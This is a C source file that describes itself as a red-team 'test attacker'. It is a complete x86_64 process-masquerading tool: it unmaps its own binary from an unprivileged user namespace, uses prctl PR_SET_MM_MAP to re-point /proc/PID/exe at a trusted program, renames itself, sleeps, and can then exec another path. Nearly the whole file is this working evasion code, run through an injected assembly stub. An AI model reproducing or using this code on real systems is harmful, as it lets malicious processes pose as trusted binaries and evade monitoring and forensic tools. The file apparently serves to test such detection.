// SPDX-License-Identifier: Apache-2.0
// A test attacker (not part of schedcat): re-points its own /proc/PID/exe at a trusted binary
// from an unprivileged user namespace (prctl PR_SET_MM_MAP with exe_fd), renames itself, and
// sleeps. x86_64 only. Usage: TestExeRepoint TARGET NAME SECONDS. Found by the red team.
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <linux/prctl.h>
#include <time.h>
#include <stddef.h>
struct ctx { unsigned long ranges[16][2]; long n; void *map; unsigned long mapsize; char name[16]; long secs; struct timespec ts; char msg[16]; char path[64]; char *av[2]; };
extern char stage2_start[], stage2_end[];
__asm__(
".globl stage2_start\n.globl stage2_end\n"
"stage2_start:\n"
"  mov %rdi, %r12\n  xor %r13, %r13\n"
"1: cmp 256(%r12), %r13\n  jge 2f\n"
"  mov %r13, %rax\n  shl $4, %rax\n  mov (%r12,%rax), %rdi\n  mov 8(%r12,%rax), %rsi\n  sub %rdi, %rsi\n"
"  mov $11, %eax\n  syscall\n  inc %r13\n  jmp 1b\n"
"2: mov $157, %eax\n  mov $35, %edi\n  mov $14, %esi\n  mov 264(%r12), %rdx\n  mov 272(%r12), %r10\n  xor %r8, %r8\n  syscall\n"
"  test %rax, %rax\n  jnz 3f\n  movb $'K', 320(%r12)\n  jmp 4f\n3: movb $'F', 320(%r12)\n"
"4: movb $'\\n', 321(%r12)\n  mov $1, %eax\n  mov $1, %edi\n  lea 320(%r12), %rsi\n  mov $2, %edx\n  syscall\n"
"  mov $157, %eax\n  mov $15, %edi\n  lea 280(%r12), %rsi\n  syscall\n"
"5: mov $35, %eax\n  lea 304(%r12), %rdi\n  xor %esi, %esi\n  syscall\n  decq 296(%r12)\n  jnz 5b\n"
"  mov $59, %eax\n  lea 336(%r12), %rdi\n  lea 400(%r12), %rsi\n  xor %edx, %edx\n  syscall\n  mov $60, %eax\n  xor %edi, %edi\n  syscall\n"
"stage2_end:\n");
int main(int argc, char **argv) {
    const char *target = argc > 1 ? argv[1] : "/usr/bin/sleep";
    const char *name = argc > 2 ? argv[2] : "sleep";
    long secs = argc > 3 ? atol(argv[3]) : 30;
    if (unshare(CLONE_NEWUSER) != 0) { perror("unshare"); return 1; }
    int fd = open(target, O_RDONLY);
    if (fd < 0) { perror("open"); return 1; }
    char self[512]; ssize_t sl = readlink("/proc/self/exe", self, sizeof self - 1); self[sl] = 0;
    struct ctx *c = mmap(NULL, 4096, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0);
    if (offsetof(struct ctx, n) != 256 || offsetof(struct ctx, map) != 264 || offsetof(struct ctx, name) != 280 || offsetof(struct ctx, secs) != 296 || offsetof(struct ctx, ts) != 304 || offsetof(struct ctx, msg) != 320 || offsetof(struct ctx, path) != 336 || offsetof(struct ctx, av) != 400) { fprintf(stderr, "layout\n"); return 1; }
    FILE *f = fopen("/proc/self/maps", "r"); char line[1024];
    while (fgets(line, sizeof line, f)) { unsigned long a, b; char path[512] = "";
        if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %511s", &a, &b, path) >= 2 && strcmp(path, self) == 0) { c->ranges[c->n][0] = a; c->ranges[c->n][1] = b; c->n++; } }
    fclose(f);
    f = fopen("/proc/self/stat", "r"); char buf[4096]; fgets(buf, sizeof buf, f); fclose(f);
    char *p = strrchr(buf, ')') + 2; unsigned long v[60] = {0}; int i = 3; char *tok = strtok(p, " ");
    while (tok && i < 60) { v[i++] = strtoul(tok, NULL, 10); tok = strtok(NULL, " "); }
    struct prctl_mm_map *m = (void *)((char *)c + 2048); memset(m, 0, sizeof *m);
    m->start_code = v[26]; m->end_code = v[27]; m->start_stack = v[28]; m->start_data = v[45]; m->end_data = v[46];
    m->start_brk = v[47]; m->brk = (unsigned long)sbrk(0); m->arg_start = v[48]; m->arg_end = v[49]; m->env_start = v[50]; m->env_end = v[51];
    m->exe_fd = fd;
    c->map = m; c->mapsize = sizeof *m; strncpy(c->name, name, 15); c->secs = secs; c->ts.tv_sec = 1; if (argc > 4) { strncpy(c->path, argv[4], 63); c->av[0] = c->path; } else strcpy(c->path, "/nonexistent");
    printf("pid %d: unmapping %ld ranges of %s, exe -> %s, comm -> %s\n", getpid(), c->n, self, target, name); fflush(stdout);
    size_t len = stage2_end - stage2_start;
    void *code = mmap(NULL, 4096, PROT_READ|PROT_WRITE|PROT_EXEC, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0);
    memcpy(code, stage2_start, len);
    ((void (*)(struct ctx *))code)(c);
    return 0;
}
